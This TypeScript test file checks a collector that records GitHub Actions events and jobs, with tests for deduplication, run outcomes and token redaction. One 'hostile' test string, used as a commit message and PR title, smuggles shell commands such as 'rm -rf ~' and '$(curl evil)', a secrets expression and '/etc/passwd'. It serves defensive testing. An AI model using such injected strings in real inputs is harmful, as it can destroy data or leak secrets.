import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isSafeId } from '../../../collector/base/paths.ts';
import { eventActions } from '../../../collector/operations/github/event-actions.ts';
import { recordEvent, recordJob } from '../../../collector/operations/github/record-event.ts';
import { readAll, temporaryBook, temporaryFolder } from '../../helpers.ts';

const sha = (digit: string) => digit.repeat(40);
const clock = { nowUs: () => Date.UTC(2026, 10, 27, 12) * 1000 };

/** What GitHub Actions sets in a job, and the event in a file. */
function world(name: string, payload: unknown, more: NodeJS.ProcessEnv = {}) {
  const file = join(temporaryFolder(), 'event.json');
  writeFileSync(file, typeof payload === 'string' ? payload : JSON.stringify(payload));
  const env = {
    GITHUB_ACTIONS: 'true',
    GITHUB_EVENT_NAME: name,
    GITHUB_EVENT_PATH: file,
    GITHUB_RUN_ID: '24293003000',
    GITHUB_RUN_ATTEMPT: '1',
    GITHUB_WORKFLOW: 'CI',
    GITHUB_JOB: 'test',
    ...more,
  };
  return { clock, env };
}

const push = (commits: unknown[]) => ({
  ref: 'refs/heads/main',
  before: sha('a'),
  after: sha('b'),
  forced: true,
  created: false,
  compare: 'https://github.example/o/r/compare/a...b',
  sender: { login: 'octocat', id: 1 },
  commits,
});

const hostile =
  '"; rm -rf ~; $(curl evil) `id` $\u007b{ secrets.X }} \u0007\u202e --file=/etc/passwd\n- @everyone';

describe('recordEvent', () => {
  it('records a push and each of its commits, however hostile or long their messages', async () => {
    const root = temporaryBook();
    const commits = [
      {
        id: sha('1'),
        message: hostile,
        author: { username: 'a' },
        added: ['x', 'y'],
        timestamp: '2026-11-27T10:00:00Z',
      },
      { id: sha('2'), message: 'm'.repeat(140_000), author: { name: 'b' } },
      { id: sha('3'), message: 'token ghp_0123456789abcdefghijABCDEFGHIJ012345' },
    ];
    await recordEvent(root, {}, world('push', push(commits)));
    const { records, findings } = await readAll(root);
    expect(findings).toEqual([]);
    expect(records.map(({ type, actionId, status }) => [type, actionId, status])).toEqual([
      ['push_event', 'push-24293003000', 'completed'],
      ...['1', '2', '3'].map((digit) => ['commit', `commit-${sha(digit)}`, 'completed']),
    ]);
    expect(records[0]!.details).toEqual({
      ref: 'refs/heads/main',
      before: sha('a'),
      after: sha('b'),
      commits: 3,
      forced: true,
      actor: 'octocat',
      url: 'https://github.example/o/r/compare/a...b',
    });
    expect(records[1]!.details).toMatchObject({ message: hostile, author: 'a', added: 2 });
    // Too long for a line: kept beside it.
    expect(records[2]!.blob!.bytes).toBeGreaterThan(140_000);
    expect(JSON.stringify(records[3]!.details)).not.toContain('ghp_');
  });

  it('makes one action of an event that is recorded twice, and of a commit in two pushes', async () => {
    const root = temporaryBook();
    const commits = [{ id: sha('1'), message: 'one' }];
    for (const run of ['1', '1', '2'])
      await recordEvent(root, {}, world('push', push(commits), { GITHUB_RUN_ID: run }));
    const actions = new Set((await readAll(root)).records.map(({ actionId }) => actionId));
    expect([...actions]).toEqual(['push-1', `commit-${sha('1')}`, 'push-2']);
  });

  it('takes the outcome, the time and the address of a run that is over', async () => {
    const root = temporaryBook();
    const run = {
      id: 77,
      name: 'CI',
      run_attempt: 2,
      status: 'completed',
      conclusion: 'timed_out',
      run_started_at: '2026-11-27T10:00:00Z',
      updated_at: '2026-11-27T10:01:44Z',
      head_sha: sha('c'),
      html_url: 'https://github.example/runs/77',
    };
    await recordEvent(root, {}, world('workflow_run', { action: 'completed', workflow_run: run }));
    const [record] = (await readAll(root)).records;
    expect(record).toMatchObject({
      type: 'workflow_run',
      actionId: 'workflow-run-77-2',
      status: 'failed',
      durationMs: 104_000,
      details: { workflow: 'CI', conclusion: 'timed_out', attempt: 2, url: 'https://github.example/runs/77' },
    });
  });

  it('ends the jobs of a run that was killed, and no others', async () => {
    const root = temporaryBook();
    const job = (name: string, run: string) => world('push', {}, { GITHUB_JOB: name, GITHUB_RUN_ID: run });
    await recordJob(root, 'executing', job('killed', '77'));
    await recordJob(root, 'executing', job('done', '77'));
    await recordJob(root, 'success', job('done', '77'));
    await recordJob(root, 'executing', job('other', '78'));
    const over = { id: 77, run_attempt: 1, status: 'completed', conclusion: 'cancelled' };
    await recordEvent(root, {}, world('workflow_run', { workflow_run: over }));
    expect(await joinedStatuses(root)).toEqual({
      'job-77-1-killed': 'aborted',
      'job-77-1-done': 'completed',
      'job-78-1-other': 'running',
      'workflow-run-77-1': 'aborted',
    });
  });

  it.each([
    ['schedule', { schedule: '17 * * * *' }, 'schedule_event', { schedule: '17 * * * *' }],
    [
      'workflow_dispatch',
      { ref: 'refs/heads/main', inputs: { target: 'prod' }, sender: { login: 'me' } },
      'workflow_dispatch_event',
      { ref: 'refs/heads/main', inputs: { target: 'prod' }, actor: 'me' },
    ],
    [
      'pull_request',
      {
        action: 'opened',
        number: 5,
        pull_request: { title: hostile, head: { ref: 'x' }, base: { ref: 'main' } },
      },
      'pull_request_event',
      { action: 'opened', number: 5, title: hostile, branch: 'x', base: 'main' },
    ],
    [
      'release',
      { action: 'published', release: { tag_name: 'v1', prerelease: true } },
      'release_event',
      { action: 'published', tag: 'v1', prerelease: true },
    ],
    [
      'watch',
      { action: 'started', sender: { login: 'fan' } },
      'watch_event',
      { action: 'started', actor: 'fan' },
    ],
    [
      'deployment_status',
      { deployment: { id: 9, environment: 'prod' }, deployment_status: { state: 'error' } },
      'deployment',
      { environment: 'prod', state: 'error' },
    ],
  ])('records %s', async (name, payload, type, details) => {
    const root = temporaryBook();
    await recordEvent(root, {}, world(name, payload));
    expect((await readAll(root)).records).toMatchObject([{ type, details }]);
  });

  it.each([
    ['{"ref":', 'no JSON'],
    ['[]', 'another value'],
  ])('says what is wrong with %s', async (text, found) => {
    const root = temporaryBook();
    await expect(recordEvent(root, {}, world('push', text))).rejects.toThrow(found);
    expect((await readAll(root)).records).toEqual([]);
  });

  it('says where an event would come from outside of GitHub', async () => {
    await expect(recordEvent(temporaryBook(), {}, { clock, env: {} })).rejects.toThrow('GITHUB_EVENT_NAME');
  });
});

describe('eventActions', () => {
  it('makes actions that can be recorded of whatever stands in a payload', () => {
    const names = [
      'push',
      'workflow_run',
      'deployment_status',
      'pull_request',
      'release',
      'schedule',
      '__proto__',
      '../x y',
    ];
    fc.assert(
      fc.property(
        fc.constantFrom(...names),
        fc.object({ maxDepth: 3, key: keys }),
        fc.string(),
        (name, payload, runId) => {
          const actions = eventActions({ name, payload: JSON.parse(JSON.stringify(payload)), runId });
          expect(actions.length).toBeGreaterThan(0);
          for (const { id, type } of actions) {
            expect(type).toMatch(/^[\w-]{1,100}$/);
            if (id !== undefined) expect(isSafeId(id), id).toBe(true);
          }
        },
      ),
    );
  });
});

const keys = fc.constantFrom(
  ...[
    'commits',
    'id',
    'message',
    'author',
    'workflow_run',
    'deployment',
    'deployment_status',
    'state',
    'sender',
    'run_attempt',
  ],
);

async function joinedStatuses(root: string): Promise<Record<string, string>> {
  const { records } = await readAll(root);
  return Object.fromEntries(records.map(({ actionId, status }) => [actionId!, status]));
}
